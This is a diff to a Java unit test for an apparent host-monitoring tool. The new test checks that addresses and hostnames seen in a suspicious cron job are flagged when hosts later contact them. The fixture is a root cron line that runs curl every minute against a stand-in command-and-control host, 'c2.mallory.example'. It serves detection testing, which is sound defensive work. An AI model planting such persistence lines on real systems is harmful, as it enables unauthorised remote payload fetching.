@@ -33,6 +33,7 @@ import bzh.vigie.collector.store.Tombstones.Nature;
 import bzh.vigie.collector.store.Tombstones.Recurrence;
 import bzh.vigie.collector.store.Tombstones.Tombstone;
 import bzh.vigie.event.Account;
+import bzh.vigie.event.Endpoint;
 import bzh.vigie.event.Event;
 import bzh.vigie.event.Event.Change;
 import bzh.vigie.event.InventoryDigest;
@@ -44,6 +45,7 @@ import bzh.vigie.event.ProcessKey;
 import bzh.vigie.event.ReasonCode;
 import bzh.vigie.event.Sha256;
 import bzh.vigie.event.WatchState;
+import java.net.InetAddress;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.time.Duration;
@@ -55,6 +57,7 @@ import java.util.List;
 import java.util.Locale;
 import java.util.Map;
 import java.util.Optional;
+import java.util.OptionalLong;
 import java.util.Set;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -283,6 +286,60 @@ final class ReturnsTest {
                             Observed.missed(Observed.Why.NOT_OFFERED),
                             ""));
             assertEquals(List.of("return pc-2 ssh-key", "return pc-2 ssh-key"), told(line));
+        });
+    }
+
+    private static Event reached(Line line, String address, Event.Direction direction) {
+        return new Event.Flow(
+                line.at(0),
+                "linux.flow",
+                Observed.missed(Observed.Why.NOT_OFFERED),
+                Observed.known("/usr/bin/curl"),
+                Event.Transport.TCP,
+                new Endpoint(InetAddress.ofLiteral("192.168.3.4"), 50_000),
+                new Endpoint(InetAddress.ofLiteral(address), 443),
+                direction,
+                OptionalLong.empty(),
+                OptionalLong.empty(),
+                1,
+                0);
+    }
+
+    @Test
+    void theAddressOrNameOfAMarkIsSuspectedWhereverAHostReachesItOrIsReachedByALogon() throws Exception {
+        with(line -> {
+            marked(
+                    line,
+                    Line.cron(
+                            "x",
+                            "* * * * * root curl http://203.0.113.66/x http://c2.mallory.example/y",
+                            Item.Shipped.UNOWNED));
+            line.send(second, reached(line, "203.0.113.67", Event.Direction.OUTBOUND));
+            line.send(second, reached(line, "203.0.113.66", Event.Direction.INBOUND));
+            line.send(second, line.logon(Event.LogonAction.FAILED, "203.0.113.66"));
+            line.send(outside, reached(line, "203.0.113.66", Event.Direction.OUTBOUND));
+            assertEquals(List.of(), told(line), "anybody is visited");
+            line.send(second, reached(line, "203.0.113.66", Event.Direction.OUTBOUND));
+            line.send(second, reached(line, "203.0.113.66", Event.Direction.OUTBOUND));
+            assertEquals(List.of("suspected-return pc-2 address"), told(line), "one line for one address");
+            line.send(
+                    second,
+                    new Event.DnsAnswer(
+                            line.at(0),
+                            "linux.dns",
+                            Observed.missed(Observed.Why.NOT_OFFERED),
+                            Observed.missed(Observed.Why.NOT_OFFERED),
+                            "q1.c2.mallory.example",
+                            "A",
+                            List.of("198.51.100.4")));
+            line.send(second, line.logon(Event.LogonAction.LOGON, "203.0.113.66"));
+            assertEquals(
+                    List.of(
+                            "suspected-return pc-2 address",
+                            "suspected-return pc-2 address",
+                            "suspected-return pc-2 address"),
+                    told(line));
+            assertEquals("c2.mallory.example", returns(line).get(1).evidence().get("known_parts"));
         });
     }
 
